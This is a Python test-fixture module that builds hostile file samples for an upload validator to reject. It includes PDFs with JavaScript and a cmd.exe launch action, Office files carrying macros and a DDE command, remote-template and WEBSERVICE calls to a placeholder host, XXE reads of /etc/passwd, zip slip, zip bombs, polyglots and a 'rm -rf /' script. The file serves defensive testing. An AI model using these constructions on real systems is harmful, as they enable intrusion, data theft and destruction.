# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files that must not enter. Each maker gives (name, bytes); its label says what is wrong."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from . import good
from .packed import archive, edited, members, with_parts

PAGE = b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
RELS = "word/_rels/document.xml.rels"
RELATION = (
    b'<Relationship Id="rId99" TargetMode="External" Target="%s" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>'
)
MAKERS: dict[str, Callable[[], tuple[str, bytes]]] = {}


def hostile(label: str, name: str):
    def register(maker):
        MAKERS[label] = lambda: (name, maker())
        return maker

    return register


def pdf(change: Callable[[pikepdf.Pdf], None], **options) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(good.paper())) as document:
        change(document)
        document.save(out, **options)
    return out.getvalue()


def root(**entries) -> bytes:
    return pdf(lambda document: [document.Root.__setattr__(k, v) for k, v in entries.items()])


def action(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def add_page_action(document) -> None:
    document.pages[0].obj.AA = Dictionary(O=action("JavaScript", JS=String("app.alert(1)")))


def attach(document) -> None:
    document.attachments["fattura.exe"] = PROGRAM


def disguised() -> bytes:
    """Names of PDF may be written in numbers; as long as before, or the index would be wrong."""
    data = root(OpenAction=action("JavaScript", JS=String("app.alert('una frase lunga')")))
    plain = re.search(rb"/JS \(.*?\) /S /JavaScript(?= )", data)[0]
    hidden = rb"/#4AS (app.alert\(1\)) /S /J#61v#61Script"
    return data.replace(plain, hidden.ljust(len(plain)))


def image_header(width: int, height: int, pixels: bytes = zlib.compress(b"\0" * 9)) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(name + body)
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", crc)

    shape = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + shape + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def related(target: bytes, kind: bytes) -> bytes:
    relation = RELATION % (target, kind)
    return edited(good.pandoc("docx"), RELS, lambda x: x.replace(b"</Relationships>", relation))


def in_odt(words: str) -> bytes:
    new = f"{words}</office:text>".encode()
    return edited(good.pandoc("odt"), "content.xml", lambda x: x.replace(b"</office:text>", new))


def in_docx(words: bytes) -> bytes:
    new = b"<w:body><w:p>%s</w:p>" % words
    return edited(good.pandoc("docx"), "word/document.xml", lambda x: x.replace(b"<w:body>", new))


def macro_enabled(extension: str, application: str, part: str) -> bytes:
    """As Office writes it: another content type and the project of the macros."""
    data = good.pandoc(extension) if extension != "xlsx" else good.xlsx()
    types = members(data)["[Content_Types].xml"]
    types = types.replace(part.encode(), f"application/vnd.ms-{application}".encode())
    return with_parts(data, {"[Content_Types].xml": types})


def twice_the_same_name() -> bytes:
    pairs = list(members(good.pandoc("docx")).items())
    return archive([*pairs, ("word/Document.xml", pairs[-1][1])])


def lying_sizes() -> bytes:
    """The directory tells ten bytes of a part that unpacks to many more."""
    data = bytearray(with_parts(good.odp(), {"Pictures/big.png": b"\0" * 5_000_000}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"Pictures/big.png"))
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def link(folder: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, content in members(good.odp()).items():
            file.writestr(name, content)
        info = zipfile.ZipInfo("Pictures/x.png")
        info.external_attr = 0o120777 << 16
        file.writestr(info, folder)
    return out.getvalue()


ENTITIES = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
FOREIGN = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'

hostile("pdf with javascript at opening", "a.pdf")(
    lambda: root(OpenAction=action("JavaScript", JS=String("app.alert(1)")))
)
hostile("pdf with javascript in a page", "a.pdf")(lambda: pdf(add_page_action))
hostile("pdf with javascript among the names", "a.pdf")(
    lambda: root(
        Names=Dictionary(
            JavaScript=Dictionary(
                Names=Array([String("x"), action("JavaScript", JS=String("app.alert(1)"))])
            )
        )
    )
)
hostile("pdf with javascript in packed objects", "a.pdf")(
    lambda: pdf(add_page_action, object_stream_mode=pikepdf.ObjectStreamMode.generate)
)
hostile("pdf with javascript under a disguised name", "a.pdf")(disguised)
hostile("pdf that launches a program", "a.pdf")(
    lambda: root(OpenAction=action("Launch", F=String("cmd.exe")))
)
hostile("pdf that sends a form elsewhere", "a.pdf")(
    lambda: root(OpenAction=action("SubmitForm", F=String("https://altrove.invalid")))
)
hostile("pdf with a javascript address", "a.pdf")(
    lambda: root(OpenAction=action("URI", URI=String("javascript:alert(1)")))
)
hostile("pdf with a file inside", "a.pdf")(lambda: pdf(attach))
hostile("pdf with a password", "a.pdf")(
    lambda: pdf(lambda _: None, encryption=pikepdf.Encryption(owner="a", user="b"))
)
hostile("pdf with restrictions", "a.pdf")(
    lambda: pdf(lambda _: None, encryption=pikepdf.Encryption(owner="a", user=""))
)
hostile("pdf with a page before it", "a.pdf")(lambda: PAGE + good.paper())
hostile("pdf with a page in its head", "a.pdf")(
    lambda: good.paper().replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + PAGE + b"\n", 1)
)
hostile("pdf with a page after it", "a.pdf")(lambda: good.paper() + PAGE)
hostile("pdf that is a zip too", "a.pdf")(lambda: good.paper() + archive({"a.js": "alert(1)"}))
hostile("pdf that is a zip too, with an end in its comment", "a.pdf")(
    lambda: good.paper()
    + archive({"a.js": "1"}).removesuffix(b"\0\0") + b"\x06\0%%EOF\n"
)  # fmt: skip
hostile("pdf cut in half", "a.pdf")(lambda: good.paper()[: len(good.paper()) // 2])
hostile("pdf cut at the end", "a.pdf")(lambda: good.paper()[:-30])
hostile("pdf of the head alone", "a.pdf")(lambda: b"%PDF-1.7\n%%EOF\n")
hostile("program called pdf", "a.pdf")(lambda: PROGRAM)
hostile("page called pdf", "a.pdf")(lambda: PAGE)
hostile("docx called pdf", "a.pdf")(lambda: good.pandoc("docx"))

hostile("pptx with macros", "a.pptx")(
    lambda: with_parts(good.pandoc("pptx"), {"ppt/vbaProject.bin": OLE})
)
hostile("docx with macros under another name", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/settings.bin": OLE})
)
hostile("docm called docx", "a.docx")(
    lambda: macro_enabled(
        "docx",
        "word.document.macroEnabled.main+xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    )
)
hostile("xlsm called xlsx", "a.xlsx")(
    lambda: macro_enabled(
        "xlsx",
        "excel.sheet.macroEnabled.main+xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    )
)
hostile("odt with a Basic library", "a.odt")(
    lambda: with_parts(good.pandoc("odt"), {"Basic/Standard/Module1.xml": b"<m/>"})
)
hostile("odt that runs a script on opening", "a.odt")(
    lambda: in_odt('<text:a xlink:href="vnd.sun.star.script:M.main?language=Basic">x</text:a>')
)
hostile("docx with ActiveX", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/activeX/activeX1.xml": b"<x/>"})
)
hostile("docx with an OLE object", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/embeddings/oleObject1.bin": OLE})
)
hostile("docx with an OLE object called picture", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/media/image1.png": OLE})
)
hostile("docx with a program called picture", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/media/image1.png": PROGRAM})
)
hostile("docx with a page inside", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/afchunk.html": PAGE})
)
hostile("docx with a template from another host", "a.docx")(
    lambda: related(b"https://altrove.invalid/t.dotm", b"attachedTemplate")
)
hostile("docx with a picture from another host", "a.docx")(
    lambda: related(b"http://altrove.invalid/a.png", b"image")
)
hostile("docx with a picture from a shared folder", "a.docx")(
    lambda: related(b"file://server/share/a.png", b"image")
)
hostile("docx with a javascript link", "a.docx")(
    lambda: related(b"javascript:alert(1)", b"hyperlink")
)
hostile("docx with a DDE command", "a.docx")(
    lambda: in_docx(
        b"<w:r><w:instrText>DDEAU</w:instrText></w:r>"
        b"<w:r><w:instrText>TO c:\\cmd.exe /k calc</w:instrText></w:r>"
    )
)
hostile("odt with a picture from another host", "a.odt")(
    lambda: in_odt('<text:p><draw:image xlink:href="https://altrove.invalid/a.png"/></text:p>')
)
hostile("xlsx that asks another host", "a.xlsx")(
    lambda: edited(
        good.xlsx(),
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace(b"<f>B2*2</f>", b'<f>_xlfn.WEBSERVICE("http://altrove.invalid")</f>'),
    )
)
hostile("zip slip", "a.odt")(lambda: with_parts(good.pandoc("odt"), {"../../x.png": good.png()}))
hostile("zip slip from the root", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"/etc/cron.d/x.xml": b"<x/>"})
)
hostile("zip slip with backslashes", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"..\\..\\x.xml": b"<x/>"})
)
hostile("zip with a symbolic link", "a.odp")(lambda: link("/etc/passwd"))
hostile("zip bomb", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/media/a.png": b"\0" * 60_000_000})
)
hostile("zip that lies on its sizes", "a.odp")(lying_sizes)
hostile("zip with the same name twice", "a.docx")(twice_the_same_name)
hostile("zip in a zip", "a.odt")(
    lambda: with_parts(good.pandoc("odt"), {"Pictures/a.png": archive({"b.exe": PROGRAM})})
)
hostile("zip called docx", "a.docx")(lambda: archive({"leggimi.txt": "ciao"}))
hostile("docx with a page after it", "a.docx")(lambda: good.pandoc("docx") + PAGE)
hostile("docx with a page before it", "a.docx")(lambda: PAGE + good.pandoc("docx"))
hostile("docx cut in half", "a.docx")(lambda: good.pandoc("docx")[:5000])
hostile("docx with growing entities", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/styles.xml": ENTITIES})
)
hostile("docx with an entity from the disk", "a.docx")(
    lambda: with_parts(good.pandoc("docx"), {"word/styles.xml": FOREIGN})
)
hostile("docx with entities in UTF-16", "a.docx")(
    lambda: with_parts(
        good.pandoc("docx"),
        {"word/styles.xml": ENTITIES.decode().encode("utf-16")},
    )
)
hostile("odt with a password", "a.odt")(
    lambda: edited(
        good.pandoc("odt"),
        "META-INF/manifest.xml",
        lambda x: x.replace(
            b"</manifest:manifest>",
            b'<manifest:file-entry manifest:full-path="x"><manifest:encryption-data/>'
            b"</manifest:file-entry></manifest:manifest>",
        ),
    )
)
hostile("old or locked doc called docx", "a.docx")(lambda: OLE)
hostile("odp called odt", "a.odt")(lambda: good.odp())
hostile("pptx called docx", "a.docx")(lambda: good.pandoc("pptx"))

hostile("png with a page after it", "a.png")(lambda: good.png() + PAGE)
hostile("png with a zip after it", "a.png")(lambda: good.png() + archive({"a.js": "1"}))
hostile("jpeg with a page after it", "a.jpg")(lambda: good.jpeg() + PAGE)
hostile("jpeg with a zip after it", "a.jpg")(lambda: good.jpeg() + archive({"a.js": "1"}))
hostile("png of 60.000 by 60.000", "a.png")(lambda: image_header(60_000, 60_000))
hostile("png cut in half", "a.png")(lambda: good.png()[: len(good.png()) // 2])
hostile("jpeg cut in half", "a.jpg")(lambda: good.jpeg()[: len(good.jpeg()) // 2])
hostile("png of spoilt pixels", "a.png")(lambda: image_header(64, 64, PAGE))
hostile("svg called png", "a.png")(lambda: SVG)
hostile("gif called png", "a.png")(lambda: b"GIF89a\1\0\1\0\0\0\0;")
hostile("jpeg called png", "a.png")(lambda: good.jpeg())

hostile("page called txt", "a.txt")(lambda: PAGE)
hostile("page after blanks called txt", "a.txt")(lambda: b"\xef\xbb\xbf \n\t" + PAGE)
hostile("page after words called txt", "a.txt")(lambda: b"Buongiorno\n" + PAGE)
hostile("svg called txt", "a.txt")(lambda: SVG)
hostile("xml called csv", "a.csv")(lambda: b"<?xml version='1.0'?><a/>")
hostile("xhtml called csv", "a.csv")(lambda: b'<html xmlns="http://www.w3.org/1999/xhtml"/>')
hostile("page in UTF-16 called csv", "a.csv")(lambda: PAGE.decode().encode("utf-16"))
hostile("page in UTF-16 without mark called csv", "a.csv")(
    lambda: PAGE.decode().encode("utf-16-le")
)
hostile("program called txt", "a.txt")(lambda: PROGRAM)
hostile("script of the shell called txt", "a.txt")(lambda: b"#!/bin/sh\nrm -rf /\n")
hostile("text with NUL", "a.txt")(lambda: b"uno\0due")
hostile("text that is no encoding", "a.txt")(lambda: b"citt\xe0 \x81\x8d")
hostile("captions without cues", "a.vtt")(lambda: b"WEBVTT\n\nciao\n")
hostile("captions with a script", "a.vtt")(lambda: good.VTT + b"\n<script>alert(1)</script>\n")
hostile("page called captions", "a.vtt")(lambda: PAGE)

hostile("mp4 with a page at its end", "a.mp4")(lambda: good.mp4() + PAGE)
hostile("mp4 cut in half", "a.mp4")(lambda: good.mp4()[:-50])
hostile("page called mp4", "a.mp4")(lambda: b"\0\0\0\x14ftyphtml" + PAGE)
hostile("webm with a page at its end", "a.webm")(lambda: good.webm() + PAGE)
hostile("matroska called webm", "a.webm")(lambda: good.webm().replace(b"webm", b"matr"))
hostile("mp3 with a page at its end", "a.mp3")(lambda: good.mp3() + PAGE)
hostile("page called mp3", "a.mp3")(lambda: b"ID3\x03\0\0\0\0\0\0" + PAGE)
hostile("ogg with a page at its end", "a.ogg")(lambda: good.ogg() + PAGE)

hostile("page", "a.html")(lambda: PAGE)
hostile("drawing with script", "a.svg")(lambda: SVG)
hostile("xml", "a.xml")(lambda: b"<a/>")
hostile("archive", "a.zip")(lambda: archive({"a.txt": "ciao"}))
hostile("program", "a.exe")(lambda: PROGRAM)
hostile("program with two extensions", "fattura.pdf.exe")(lambda: good.paper())
hostile("macro presentation", "a.pptm")(lambda: good.pandoc("pptx"))
hostile("no extension", "fattura")(lambda: good.paper())
hostile("extension alone", ".pdf")(lambda: good.paper())
hostile("empty", "a.pdf")(lambda: b"")
